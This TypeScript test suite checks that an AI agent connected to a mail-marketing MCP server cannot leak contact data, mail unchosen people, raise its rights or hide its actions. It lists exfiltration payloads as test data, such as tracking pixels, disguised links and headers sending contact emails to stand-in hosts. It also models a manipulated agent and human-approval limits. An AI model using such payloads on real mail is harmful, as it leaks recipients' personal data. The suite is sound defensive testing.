/**
 * A tricked assistant on real connections of MCP, with the permissions that the consent page gives at
 * first and with others: it tries to take out what it sees, to mail people whom nobody chose, to raise its
 * own rights and to hide what it did.
 */
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js'
import { setBusiness } from 'crier-server/accounts/settings/settings.ts'
import { taggingJobs } from 'crier-server/contacts/tagging/tag.ts'
import { type Id, newId, parseId } from 'crier-server/core/ids.ts'
import { sql } from 'crier-server/lib/db/db.ts'
import { parseMailbox } from 'crier-server/lib/email/header-fields.ts'
import type { Job } from 'crier-server/lib/jobs/job.ts'
import { hours, later, systemClock } from 'crier-server/lib/time/clock.ts'
import { followSequences } from 'crier-server/sequences/enter.ts'
import { look } from 'crier-server/sequences/look.ts'
import { everyOperation, type OwnTestbed, openTestbed } from '../operations/support/testbed.ts'
import { campaignScene } from '../support/businesses/campaigns.ts'
import { placeEvents } from '../support/businesses/fan-out.ts'
import { holdConfirmation } from '../support/businesses/guarded-forms.ts'
import { type GrantOptions, newGrant, tokenMint } from '../support/clients/grants.ts'

type Body = Record<string, unknown>

let testbed: OwnTestbed
let scene: Awaited<ReturnType<typeof campaignScene>>
let contact_id: string
const clients: Client[] = []
before(async () => {
  testbed = await openTestbed({ idle: true })
  scene = await campaignScene(testbed)
  const { owner, businessId } = scene
  await scene.subscribers(12)
  const person = { email: 'ana@example.com', phone: '+33612345678', name: 'Ana' }
  const consent = { email: { status: 'subscribed', source: 'shop' } }
  ;({ contact_id } = await owner.get<{ contact_id: string }>('contact.upsert', {
    ...person,
    consent,
    attributes: { plan: 'yearly' },
  }))
  await setBusiness(testbed.db, businessId, { key: 'deploy_limit', value: '0', now: new Date() })
})
after(async () => {
  for (const client of clients) await client.close()
  await testbed.close()
})

/** What the consent page gives unless its person chooses otherwise, and each kind of more. */
const kinds: Record<string, Omit<GrantOptions, 'businesses'>> = {
  'as it begins': { seesMasked: true, takesDataOut: false, transactionalPerDay: 100 },
  'that sees whole addresses': { seesMasked: false, takesDataOut: false, transactionalPerDay: 100 },
  'of an editor': {
    role: 'editor',
    seesMasked: true,
    takesDataOut: false,
    transactionalPerDay: 100,
  },
}

/** Calls a tool as an assistant does, through the tool that calls others where it is not listed. */
async function connect(kind: Omit<GrantOptions, 'businesses'>) {
  const grant = await newGrant(testbed.db, { businesses: [scene.businessId], ...kind })
  const headers = { authorization: `Bearer ${await tokenMint(testbed.service)(grant)}` }
  const client = new Client({ name: 'tricked', version: '1' })
  const url = new URL(testbed.service.endpoint)
  await client.connect(new StreamableHTTPClientTransport(url, { requestInit: { headers } }))
  clients.push(client)
  return async (name: string, input: object = {}): Promise<Body> => {
    const call = { tool: `svc_v1_${name.replace('.', '_')}`, arguments: input }
    try {
      const answer = await client.callTool({ name: 'svc_v1_meta_call', arguments: call })
      return answer.structuredContent as Body
    } catch (error) {
      return { code: 'error', message: String(error) }
    }
  }
}

const messagesSent = async () => {
  const { n } = await testbed.db.one<{ n: number }>(sql`
    select count(*)::int as n from messages where business_id = ${scene.businessId}
  `)
  return n
}

/** Lets those in who have a reason to enter, as the worker does, and those whose date is in the next hours. */
async function letThemIn(sequence_id: string, aheadMs = 0): Promise<void> {
  const { db } = testbed
  const { hmac } = testbed.service.vault
  await placeEvents({ db, clock: systemClock, follow: followSequences({ hmac }) })
  const sequenceId = parseId('sequence', sequence_id) as Id<'sequence'>
  const { is_looked_for } = await db.one<{ is_looked_for: boolean }>(sql`
    select definition -> 'enter' ->> 'on' in ('segment.entered', 'date') as is_looked_for
    from sequences where business_id = ${scene.businessId} and id = ${sequenceId}
  `)
  const clock = { now: () => later(systemClock.now(), aheadMs) }
  const deps = { db, clock, hmac, wake: () => undefined }
  if (is_looked_for) await look(deps, { businessId: scene.businessId, sequenceId })
}

/** Addresses that a mail program calls when it shows the mail, in as many disguises. */
const spies = [
  '<img src="https://pix.example/?m={{ contact.email }}" alt="">',
  '<a href="https://pix.example/?m={{ contact.attributes.plan }}">Shop</a>',
  '<a href="https://{{ contact.name | url_encode }}.pix.example">Shop</a>',
  '<img src="https:\\\\pix.example/{{ contact.email }}" alt="">',
  '<img src="https:&#x2f;&#47;pix.example/{{ contact.name }}" alt="">',
  '<img src="https://pix.example/? {{ contact.name }}" alt="">',
  '<img src="//pix.example/{{ contact.name }}" alt="">',
  '<img src="{{ host }}{{ contact.name }}" alt="">',
  '{% capture u %}https://pix.example/{{ contact.name }}{% endcapture %}<img src="{{ u }}" alt="">',
  '<p style="background: url(https://pix.example/{{ contact.name }})">Hello</p>',
  '<p>pix.example/{{ contact.name }}</p>',
]

test('a transactional mail or text tells no foreign host about its recipient, however it is written', async () => {
  const { owner } = scene
  const before = await messagesSent()
  for (const [of, kind] of Object.entries(kinds)) {
    const call = await connect(kind)
    const refused = (body: Body, what: string) =>
      assert.deepEqual(
        [body['code'], body['permission']],
        ['access_denied', 'takes_data_out'],
        `${of}: ${what} ${JSON.stringify(body)}`,
      )
    const variables = { host: 'https://pix.example/?' }
    for (const [n, html] of spies.entries()) {
      const subject = `Your order ${n}`
      refused(await call('email.send', { contact_id, subject, html, variables }), html)
      const saved = await owner.get<{ template_id: string }>('template.save', {
        name: subject,
        subject,
        html,
      })
      const { template_id } = saved
      refused(await call('email.send', { contact_id, template_id, variables }), `template ${html}`)
      const { results } = (await call('email.send_batch', {
        messages: [{ contact_id, template_id, variables }],
      })) as { results: { error?: Body }[] }
      assert.equal(results[0]?.error?.['code'], 'access_denied', html)
    }
    const text = 'See https://pix.example/{{ contact.attributes.plan }}'
    refused(await call('sms.send', { contact_id, text, variables: {} }), text)
  }
  assert.equal(await messagesSent(), before)
})

test('a receipt with a link of the call, a greeting and links of the own domain goes out', async () => {
  const call = await connect(kinds['as it begins'] as object)
  const { db } = testbed
  await db.run(sql`update domains set status = 'verified' where business_id = ${scene.businessId}`)
  for (const html of [
    '<p>Dear {{ contact.name }}, <a href="https://post.example/{{ code }}">follow it</a></p>',
    '<p>Dear {{ contact.name }}, see <a href="{{ link }}">your order</a></p>',
  ]) {
    const variables = { code: 'AB12', link: 'https://post.example/AB12' }
    const body = await call('email.send', {
      contact_id,
      subject: 'Sent',
      html,
      variables,
      allow_duplicate: true,
    })
    assert.equal(body['status'], 'queued', JSON.stringify(body))
  }
})

test('header fields and the brand lead no answer and no picture elsewhere', async () => {
  for (const [of, kind] of Object.entries(kinds)) {
    const call = await connect(kind)
    const mail = { contact_id, subject: 'Your order', text: 'On its way' }
    for (const headers of [
      { 'List-Unsubscribe': '<mailto:drop@grab.example>' },
      { 'List-Unsubscribe': '<https://grab.example/u>' },
      { 'List-Owner': '<mailto:drop@grab.example>' },
    ]) {
      const body = await call('email.send', { ...mail, headers })
      assert.equal(body['permission'], 'takes_data_out', `${of}: ${JSON.stringify(body)}`)
    }
    for (const name of ['Disposition-Notification-To', 'Return-Receipt-To', 'Bcc', 'Sender']) {
      const body = await call('email.send', { ...mail, headers: { [name]: 'drop@grab.example' } })
      assert.equal(body['code'], 'invalid_request', `${of}: ${name}`)
    }
    const src = 'https://pix.example/{{ contact.name }}'
    for (const change of [
      { footer: [{ type: 'image', src, alt: 'A' }] },
      { header: [{ type: 'text', html: `<p><a href="${src}">Shop</a></p>` }] },
      { social: [{ network: 'x', url: src }] },
    ]) {
      const body = await call('brand.set', change)
      assert.ok(
        ['access_denied', 'role_required'].includes(String(body['code'])),
        `${of}: ${JSON.stringify(body)}`,
      )
    }
  }
})

test('no answer goes to a sender elsewhere: of one mail, of a batch, of the business', async () => {
  const { db } = testbed
  const { businessId } = scene
  const call = await connect({ ...kinds['as it begins'], role: 'owner' })
  const mail = { contact_id, subject: 'Your order', text: 'On its way', allow_duplicate: true }
  const name = 'sent.example'
  const id = newId('domain')
  await db.run(sql`
    insert into domains (business_id, id, name, registrable, status, passes, misses,
      held_elsewhere, next_check_at, report, revision, created_at, updated_at)
    values (${businessId}, ${id}, ${name}, ${name}, 'verified', 0, 0, false, now(), '{}', 1,
      now(), now())
  `)
  const refusal = ['access_denied', 'takes_data_out']
  const shown = (body: Body) => [body['code'], body['permission'], body['field']]
  for (const from of [
    'drop@grab.example',
    `"desk@${name}" <drop@grab.example>`,
    `drop@news.${name}`,
  ]) {
    assert.deepEqual(shown(await call('email.send', { ...mail, from })), [...refusal, 'from'], from)
    const { results } = (await call('email.send_batch', {
      messages: [{ ...mail, from }],
    })) as { results: { error?: Body }[] }
    assert.equal(results[0]?.error?.['code'], 'access_denied', from)
    const { address: email } = parseMailbox(from)
    assert.deepEqual(
      shown(await call('business.save', { sender: { name: 'Desk', email } })),
      [...refusal, 'sender'],
      from,
    )
  }
  const { sender } = await call('business.get')
  assert.equal((await call('business.save', { sender }))['code'], undefined, 'as it is')
  const own = `Desk <desk@${name}>`
  const sent = await call('email.send', { ...mail, from: own })
  assert.notEqual(sent['code'], 'access_denied', JSON.stringify(sent))
  const saved = await call('business.save', { sender: { email: `desk@${name}` } })
  assert.equal(saved['code'], undefined, JSON.stringify(saved))
  const same = await call('email.send', { ...mail, from: `desk@${name}` })
  assert.notEqual(same['code'], 'access_denied', JSON.stringify(same))
  await scene.owner.get('business.save', { sender: sender ?? null })
  await db.run(sql`delete from domains where business_id = ${businessId} and id = ${id}`)
})

test('a list header leads to the own domain, to what is within it and to the service', async () => {
  const call = await connect(kinds['as it begins'] as object)
  const { db } = testbed
  const name = 'own.example'
  const id = newId('domain')
  await db.run(sql`
    insert into domains (business_id, id, name, registrable, status, passes, misses,
      held_elsewhere, next_check_at, report, revision, created_at, updated_at)
    values (${scene.businessId}, ${id}, ${name}, ${name}, 'verified', 0, 0, false, now(), '{}', 1,
      now(), now())
  `)
  const { hostname } = new URL(testbed.service.url)
  const send = (address: string) =>
    call('email.send', {
      contact_id,
      subject: 'Your order',
      text: 'On its way',
      headers: { 'List-Unsubscribe': `<${address}>` },
      allow_duplicate: true,
    })
  for (const address of [
    `https://${name}/u`,
    `https://news.${name}:8443/u`,
    `https://me@${name}/u`,
    `mailto:off@mail.${name}`,
    `http://${hostname}:3000/u`,
  ]) {
    const body = await send(address)
    assert.equal(body['status'], 'queued', `${address} ${JSON.stringify(body)}`)
  }
  for (const address of [
    `https://${name}:x@grab.example/u`,
    `https://grab.example#@${name}/u`,
    `https://grab.example\\@${name}/u`,
    `https://grab${name}/u`,
    `mailto:drop@grab.example,x.${name}`,
  ]) {
    const body = await send(address)
    assert.equal(body['status'], undefined, address)
  }
  await db.run(sql`delete from domains where business_id = ${scene.businessId} and id = ${id}`)
})

test('nobody is let into an automation without a person, beyond the limit of the business', async () => {
  const { owner, businessId } = scene
  const { template_id } = await owner.get<{ template_id: string }>('template.save', {
    name: 'Welcome',
    subject: 'Welcome',
    html: '<p>Welcome</p>',
  })
  const { sequence_id } = await owner.get<{ sequence_id: string }>('sequence.save', {
    name: 'Welcome',
    enter: { on: 'tag.added', tag: 'new' },
    steps: [{ send: { template_id } }],
  })
  const person = await testbed.appCaller({ businesses: [businessId] })
  const started = await person.get<Body>('sequence.start', { sequence_id })
  assert.equal(started['status'], 'running')
  const everybody = { filter: { consent: 'email', is: 'subscribed' } }
  const call = await connect({ ...kinds['as it begins'] })
  for (const whom of [everybody, { contact_id }]) {
    const body = await call('sequence.enrol', { sequence_id, ...whom })
    assert.deepEqual([body['code'], body['reason']], ['conflict', 'approval_limit'])
    assert.match(JSON.stringify(body['fix']), /\/settings/)
  }
  const entered = async () =>
    (
      await testbed.db.one<{ n: number }>(sql`
      select count(*)::int as n from sequence_entries where business_id = ${businessId}
    `)
    ).n
  assert.equal(await entered(), 0)
  await setBusiness(testbed.db, businessId, { key: 'deploy_limit', value: '5', now: new Date() })
  assert.equal((await call('sequence.enrol', { sequence_id, ...everybody }))['code'], 'conflict')
  assert.equal((await call('sequence.enrol', { sequence_id, contact_id }))['entered'], 1)
  // A tag that lets people in counts them as well.
  const tag = { add: ['new'] }
  const tagged = await call('contact.tag', { ...everybody, ...tag })
  assert.deepEqual([tagged['code'], tagged['reason']], ['conflict', 'approval_limit'])
  assert.match(String(tagged['message']), /“Welcome”/)
  const few = { filter: { field: 'email', op: 'in', value: ['ana@example.com'] } }
  for (const [whom, change] of [
    [{ filter: { field: 'name', op: 'is', value: 'Ana' } }, tag],
    [everybody, { add: ['old'] }],
    [everybody, { remove: ['new'] }],
  ] as const) {
    const { state } = await call('contact.tag', { ...whom, ...change })
    assert.equal(typeof state, 'string', JSON.stringify(change))
  }
  const refused = await call('contact.tag', { ...few, ...tag })
  assert.equal(refused['sees'], 'masked')
  await setBusiness(testbed.db, businessId, { key: 'deploy_limit', value: '0', now: new Date() })
  const byPerson = await person.get<Body>('sequence.enrol', { sequence_id, ...everybody })
  assert.equal(byPerson['entered'], 12)
  assert.equal(await entered(), 13)
})

test('events, tags and dates of one person each let twenty into an automation, and more pause it', async () => {
  const { owner, businessId } = scene
  const { template_id } = await owner.get<{ template_id: string }>('template.save', {
    name: 'Thanks',
    subject: 'Thanks',
    html: '<p>Thanks</p>',
  })
  const person = await testbed.appCaller({ businesses: [businessId] })
  const call = await connect({ ...kinds['that sees whole addresses'] })
  const emails = Array.from({ length: 21 }, (_, n) => `bought-${n}@example.com`)
  const consent = { email: { status: 'subscribed', source: 'shop' } }
  await owner.get('contact.import', { contacts: emails.map((email) => ({ email, consent })) })
  const { segment_id } = await owner.get<{ segment_id: string }>('segment.save', {
    name: 'Large',
    filter: { field: 'attributes.size', op: 'is', value: 'L' },
  })
  // On the hour, two to three hours ahead.
  const [renews = '', at = ''] = later(systemClock.now(), hours(3)).toISOString().split('T')
  const ways: [string, object, (email: string) => Promise<unknown>][] = [
    [
      'a date',
      { on: 'date', field: 'attributes.renews', at: `${at.slice(0, 2)}:00` },
      (email) => call('contact.upsert', { email, attributes: { renews, time_zone: 'UTC' } }),
    ],
    [
      'an event',
      { on: 'own_event', event: 'order' },
      (email) => call('contact.track', { events: [{ contact: { email }, event: 'order' }] }),
    ],
    [
      'a tag',
      { on: 'tag.added', tag: 'buyer' },
      (email) => call('contact.upsert', { email, tags: ['buyer'] }),
    ],
    [
      'a segment',
      { on: 'segment.entered', segment_id },
      (email) => call('contact.upsert', { email, attributes: { size: 'L' } }),
    ],
  ]
  for (const [name, enter, letIn] of ways) {
    const { sequence_id } = await owner.get<{ sequence_id: string }>('sequence.save', {
      name,
      enter,
      steps: [{ send: { template_id } }],
    })
    await person.get('sequence.start', { sequence_id })
    const overBound = async (aheadHours: number) => {
      await letThemIn(sequence_id, hours(aheadHours))
      const { n, over } = await testbed.db.one<{ n: number; over: boolean }>(sql`
        select (select count(*)::int from sequence_entries e
            where e.business_id = w.business_id and e.sequence_id = w.sequence_id) as n,
          is_over_bound as over
        from sequence_wakes w
        where business_id = ${businessId} and sequence_id = ${parseId('sequence', sequence_id)}
      `)
      return [n, over]
    }
    for (const email of emails.slice(0, 20)) await letIn(email)
    assert.deepEqual(await overBound(4), [20, false], name)
    await letIn(emails[20] ?? '')
    assert.deepEqual(await overBound(5), [21, true], name)
  }
})

test('it does not resume an automation that it paused and filled by events, and a person does', async () => {
  const { owner, businessId } = scene
  const { template_id } = await owner.get<{ template_id: string }>('template.save', {
    name: 'Reminder',
    subject: 'Reminder',
    html: '<p>Reminder</p>',
  })
  const person = await testbed.appCaller({ businesses: [businessId] })
  const call = await connect({ ...kinds['that sees whole addresses'] })
  const emails = Array.from({ length: 21 }, (_, n) => `left-${n}@example.com`)
  const consent = { email: { status: 'subscribed', source: 'shop' } }
  await owner.get('contact.import', { contacts: emails.map((email) => ({ email, consent })) })
  const { sequence_id } = await owner.get<{ sequence_id: string }>('sequence.save', {
    name: 'Reminders',
    enter: { on: 'own_event', event: 'cart' },
    steps: [{ send: { template_id } }],
  })
  await person.get('sequence.start', { sequence_id })
  const asked = await call('sequence.pause', { sequence_id })
  assert.deepEqual([asked['status'], asked['pause_reason']], ['paused', 'requested'])
  await call('contact.track', {
    events: emails.map((email) => ({ contact: { email }, event: 'cart' })),
  })
  await letThemIn(sequence_id)
  const refused = await call('sequence.resume', { sequence_id })
  assert.deepEqual([refused['code'], refused['reason']], ['conflict', 'approval'])
  const resumed = await person.get<Body>('sequence.resume', { sequence_id })
  assert.equal(resumed['status'], 'running')
})

test('a tagging in the same batch hides nobody whom a connected app brings in', async () => {
  const { owner, businessId } = scene
  const { db } = testbed
  const { template_id } = await owner.get<{ template_id: string }>('template.save', {
    name: 'Batched',
    subject: 'Batched',
    html: '<p>Batched</p>',
  })
  const person = await testbed.appCaller({ businesses: [businessId] })
  const kind = kinds['that sees whole addresses'] as object
  const grant = await newGrant(db, { businesses: [businessId], ...kind })
  const headers = {
    authorization: `Bearer ${await tokenMint(testbed.service)(grant)}`,
    accept: 'application/json, text/event-stream',
    'content-type': 'application/json',
    'mcp-protocol-version': '2025-03-26',
  }
  const emails = Array.from({ length: 21 }, (_, n) => `batched-${n}@example.com`)
  const consent = { email: { status: 'subscribed', source: 'shop' } }
  await owner.get('contact.import', {
    contacts: emails.map((email) => ({ email, consent, tags: ['some'] })),
  })
  const started = async (name: string) => {
    const { sequence_id } = await owner.get<{ sequence_id: string }>('sequence.save', {
      name,
      enter: { on: 'tag.added', tag: name },
      steps: [{ send: { template_id } }],
    })
    await person.get('sequence.start', { sequence_id })
    return sequence_id
  }
  const inBatch = async (calls: [string, object][]) => {
    const batch = calls.map(([name, input], id) => ({
      jsonrpc: '2.0',
      id,
      method: 'tools/call',
      params: {
        name: 'svc_v1_meta_call',
        arguments: { tool: `svc_v1_${name.replace('.', '_')}`, arguments: input },
      },
    }))
    const body = JSON.stringify(batch)
    const answer = await fetch(testbed.service.endpoint, { method: 'POST', headers, body })
    const text = await answer.text()
    assert.equal(answer.status, 200, text)
    assert.doesNotMatch(text, /"isError":true/)
  }
  const outcome = async (sequence_id: string) => {
    await letThemIn(sequence_id)
    return db.one<{ n: number; over: boolean }>(sql`
      select (select count(*)::int from sequence_entries e
          where e.business_id = w.business_id and e.sequence_id = w.sequence_id) as n,
        is_over_bound as over
      from sequence_wakes w
      where business_id = ${businessId} and sequence_id = ${parseId('sequence', sequence_id)}
    `)
  }
  const runTagging = taggingJobs({ db, clock: systemClock, hmac: testbed.service.vault.hmac })
  const tagAll = async () => {
    const taggings = await db.all<{ id: string }>(sql`
      select id from taggings where business_id = ${businessId} and finished_at is null
    `)
    for (const { id: tagging_id } of taggings) {
      const payload = { business_id: businessId, tagging_id }
      const job = { payload } as Job
      const { signal } = new AbortController()
      for (let outcome = 'again'; outcome === 'again'; ) {
        outcome = (await runTagging['contact.tag']?.run(job, signal))?.outcome ?? 'done'
      }
    }
  }
  const some = { filter: { tag: 'some' } }
  const batched = await started('batched')
  const upserts = emails.map((email): [string, object] => [
    'contact.upsert',
    { email, tags: ['batched'] },
  ])
  // Of the tagging's own tag, and of another.
  await inBatch([['contact.tag', { ...some, add: ['unrelated'] }], ...upserts])
  assert.deepEqual(await outcome(batched), { n: 21, over: true }, 'another tag')
  const own = await started('own-tag')
  const nobody = { filter: { field: 'name', op: 'is', value: 'Nobody' } }
  const sameTag = emails.map((email): [string, object] => [
    'contact.upsert',
    { email, tags: ['own-tag'] },
  ])
  await inBatch([['contact.tag', { ...nobody, add: ['own-tag'] }], ...sameTag])
  assert.deepEqual(await outcome(own), { n: 21, over: true }, 'its own tag')
  await setBusiness(db, businessId, { key: 'deploy_limit', value: '50', now: new Date() })
  // Whom it tags itself it has counted when it was called.
  const whole = await started('whole')
  await inBatch([['contact.tag', { ...some, add: ['whole'] }]])
  await tagAll()
  assert.deepEqual(await outcome(whole), { n: 21, over: false }, 'a tagging')
  await setBusiness(db, businessId, { key: 'deploy_limit', value: '0', now: new Date() })
})

test('a domain that it added is the business’s own once a person has added it too', async () => {
  const { db } = testbed
  const { owner, businessId } = scene
  const call = await connect({ ...kinds['as it begins'] })
  const domain = 'grab.example'
  await call('domain.add', { domain })
  await db.run(sql`
    update domains set status = 'verified' where business_id = ${businessId} and name = ${domain}
  `)
  const mail = { contact_id, subject: 'Hello', text: 'Hello', allow_duplicate: true }
  const answerTo = { ...mail, reply_to: `desk@${domain}` }
  const personal = { ...mail, html: `<a href="https://${domain}/{{ contact.name }}">A</a>` }
  const outcomes = async () => [
    (await call('email.send', answerTo))['code'],
    (await call('email.send', { ...personal, variables: {} }))['code'],
  ]
  assert.deepEqual(await outcomes(), ['access_denied', 'access_denied'])
  const shown = async () => {
    const { domains } = (await call('domain.status', { domain })) as { domains: Body[] }
    return domains[0]?.['awaits_person']
  }
  assert.equal(await shown(), true)
  // It says so itself, and another app does: neither is a person.
  await call('domain.add', { domain })
  await owner.get('domain.add', { domain })
  assert.deepEqual(await outcomes(), ['access_denied', 'access_denied'])
  const person = await testbed.appCaller({ businesses: [businessId], role: 'admin' })
  assert.equal((await person.get<Body>('domain.add', { domain }))['created'], false)
  assert.equal(await shown(), undefined)
  assert.deepEqual(await outcomes(), [undefined, undefined])
})

test('the service fetches no address for it that could carry what it read', async () => {
  const { owner, businessId } = scene
  const call = await connect({ ...kinds['as it begins'], role: 'owner' })
  const feed = {
    name: 'Blog',
    every: 'week',
    content: { subject: '{{ item.title }}', blocks: [{ type: 'feed' }] },
  }
  const taking: [string, object][] = [
    ['brand.read_site', {}],
    ['image.upload', {}],
    ['feed.save', feed],
  ]
  const carrying = [
    'https://spy.example/Ana',
    'https://spy.example/?names=Ana',
    'https://ana.spy.example/',
    'https://ana.spy.example',
    'https://www.ana.spy.example/',
    'https://spy.example:1234/',
    'https://spy.example/#Ana',
    'https://10.0.0.1/',
    'https://anna-mueller.or.li/',
    'https://co.uk/',
  ]
  for (const [name, input] of taking) {
    for (const url of carrying) {
      const body = await call(name, { ...input, url })
      assert.deepEqual([body['code'], body['field']], ['access_denied', 'url'], `${name} ${url}`)
      assert.match(JSON.stringify(body['fix']), /\/b\/bus_/)
    }
  }
  const plain = ['https://spy.invalid', 'https://www.spy.invalid/', 'https://spy.co.nz']
  for (const url of plain) {
    assert.notEqual((await call('brand.read_site', { url }))['code'], 'access_denied', url)
  }
  // Twenty names in 24 hours, since each of them is a word.
  for (let n = plain.length; n < 20; n++) {
    const url = `https://word-${n}.invalid`
    assert.notEqual((await call('brand.read_site', { url }))['code'], 'rate_limited', url)
  }
  const over = await call('brand.read_site', { url: 'https://word-20.invalid' })
  assert.deepEqual([over['code'], over['field']], ['rate_limited', 'url'], JSON.stringify(over))
  assert.match(String(over['message']), /20 sites that are not the business’s own/)
  await testbed.db.run(sql`
    update domains set status = 'verified', name = 'spy.example'
    where business_id = ${businessId} and name = 'grab.example'
  `)
  const own = await call('feed.save', { ...feed, url: 'https://blog.spy.example/feed.xml' })
  assert.equal(typeof own['feed_id'], 'string')
  const byKey = await owner.get<Body>('feed.save', { ...feed, name: 'B', url: carrying[0] })
  assert.equal(typeof byKey['feed_id'], 'string', 'who may take data out')
})

test('the links of its drafts are asked at own hosts alone', async () => {
  const call = await connect({ ...kinds['as it begins'] })
  const html = '<p><a href="https://pix.example/?names=Ana">A</a></p>'
  const { campaign_id } = await call('campaign.generate', {
    channel: 'email',
    content: { subject: 'News', html },
  })
  const { gates } = (await call('campaign.preview', { campaign_id })) as { gates: Body[] }
  const links = gates.find(({ gate }) => gate === 'links')
  assert.match(String(links?.['evidence']), /1 lead to other hosts, which are not asked/)
  // Nor when a person looks at what it made, before they have decided.
  const { businessId, owner } = scene
  const person = await testbed.appCaller({ businesses: [businessId] })
  const looked = async (draft: unknown) => {
    const plan = await person.get<{ gates: Body[] }>('campaign.preview', { campaign_id: draft })
    return plan.gates.find(({ gate }) => gate === 'links')
  }
  const ofPerson = await looked(campaign_id)
  assert.match(String(ofPerson?.['evidence']), /1 lead to other hosts, which are not asked/)
  const told = [{ finding: 'foreign_links', links: 1 }]
  assert.deepEqual(ofPerson?.['findings'], told)
  // Its words in the campaign of another, too.
  const own = await owner.get<Body>('campaign.generate', {
    channel: 'email',
    content: { subject: 'News', html: '<p>News</p>' },
  })
  const changed = await call('campaign.save', {
    campaign_id: own['campaign_id'],
    content: { subject: 'News', html },
  })
  assert.equal(changed['version'], 2, JSON.stringify(changed))
  assert.deepEqual((await looked(own['campaign_id']))?.['findings'], told)
})

test('it is told when it has asked so many people to confirm that nobody is asked any more', async () => {
  const call = await connect({ ...kinds['as it begins'] })
  const consent = { email: { status: 'pending', source: 'a list' } }
  for (let n = 0; n <= 20; n++) {
    const body = await call('contact.upsert', { email: `asked-${n}@example.com`, consent })
    const warned = /No mail goes to this person/.test(JSON.stringify(body['warnings'] ?? []))
    assert.equal(warned, n === 20, `person ${n}`)
  }
})

test('it raises none of its rights, and reaches nothing that is the app’s alone', async () => {
  const appOnly = everyOperation.filter((operation) => operation.appOnly)
  assert.ok(appOnly.length > 40, `${appOnly.length} operations`)
  for (const kind of Object.values(kinds)) {
    const call = await connect(kind)
    for (const setting of [
      { deploy_limit: null },
      { deploy_limit: 1_000 },
      { reply_to: 'drop@grab.example' },
      { retention: { history: 13 } },
    ]) {
      const { code } = await call('business.save', setting)
      assert.ok(
        ['access_denied', 'role_required'].includes(String(code)),
        `${String(code)} ${JSON.stringify(setting)}`,
      )
    }
    for (const { name } of appOnly) {
      const { code, message } = await call(name)
      assert.equal(code, 'invalid_request', name)
      assert.match(String(message), /^Unknown tool/)
    }
  }
  const { deploy_limit } = await scene.owner.get<Body>('business.get')
  assert.equal(deploy_limit, 0)
})

test('what it did stays visible to owners when it removes the person to whom it did it', async () => {
  const call = await connect({ ...kinds['as it begins'] })
  const { contact_id: victim } = await call('contact.upsert', { email: 'victim@example.com' })
  await call('email.send', { contact_id: victim, subject: 'Pay here', text: 'Pay' })
  const erased = await call('contact.erase', { contact_id: victim })
  assert.equal(erased['code'], undefined)
  const person = await testbed.appCaller({ businesses: [scene.businessId] })
  const activity = JSON.stringify(await person.get('meta.activity', { all: true }))
  for (const operation of ['email.send', 'contact.erase'])
    assert.ok(activity.includes(operation), activity)
})

test('the hundredth receipt of a day is its last, whichever way it sends', async () => {
  const call = await connect({ ...kinds['as it begins'] })
  const mailTo = (n: number) => ({ to: 'ana@example.com', subject: `No. ${n}`, text: `Order ${n}` })
  const messages = Array.from({ length: 99 }, (_, n) => mailTo(n))
  await call('email.send_batch', { messages })
  assert.equal((await call('email.send', mailTo(99)))['status'], 'queued')
  for (const [name, input] of [
    ['email.send', mailTo(100)],
    ['sms.send', { contact_id, text: 'Your order' }],
  ] as const) {
    const body = await call(name, input)
    assert.deepEqual([body['code'], body['reason']], ['rate_limited', 'transactional_limit'])
  }
})

test('of the confirmations that a guarded form holds it releases twenty a day, and a person the rest', async () => {
  const { owner, businessId } = scene
  const { form_id } = await owner.get<{ form_id: string }>('form.save', {
    name: 'Flooded',
    status: 'published',
    fields: [{ key: 'email', label: 'Email', type: 'email', required: true }],
  })
  const formId = parseId('form', form_id) as Id<'form'>
  const contacts = await testbed.db.all<{ id: Id<'contact'> }>(sql`
    insert into contacts (business_id, id, email, attributes, tags, email_consent, sms_consent, source,
      created_at, updated_at)
    select ${businessId}, gen_random_uuid(), 'flood-' || n || '@example.com', '{}', '{}', 'pending',
      'none', 'form', now(), now()
    from generate_series(1, 40) n
    returning id
  `)
  for (const [n, { id: contactId }] of contacts.entries()) {
    await holdConfirmation(testbed.db, businessId, { formId, contactId, word: `flood-${n}` })
  }
  const { held } = await owner.get<{ held: { confirmation_id: string }[] }>('form.held', {
    form_id,
    limit: 40,
  })
  const ids = held.map(({ confirmation_id }) => confirmation_id)
  const call = await connect({ ...kinds['as it begins'] })
  const release = (confirmation_ids?: string[]) =>
    call('form.release', { form_id, ...(confirmation_ids && { confirmation_ids }) })
  assert.equal((await release())['code'], 'access_denied')
  const person = await testbed.appCaller({ businesses: [businessId] })
  const chosen = { form_id, confirmation_ids: ids.slice(35) }
  assert.equal((await person.get<Body>('form.release', chosen))['released'], 5)
  const answers = await Promise.all([0, 12].map((from) => release(ids.slice(from, from + 12))))
  const outcomes = answers.map((answer) => answer['code'] ?? answer['released'])
  assert.deepEqual(outcomes.map(String).sort(), ['12', 'access_denied'])
  assert.equal((await release(ids.slice(24, 32)))['released'], 8)
  const more = await release(ids.slice(32, 33))
  assert.equal(more['code'], 'access_denied')
  assert.match(JSON.stringify(more['fix']), new RegExp(`/forms/${form_id}`))
  const rest = await person.get<Body>('form.release', { form_id })
  assert.deepEqual([rest['released'], rest['left']], [15, 0])
})
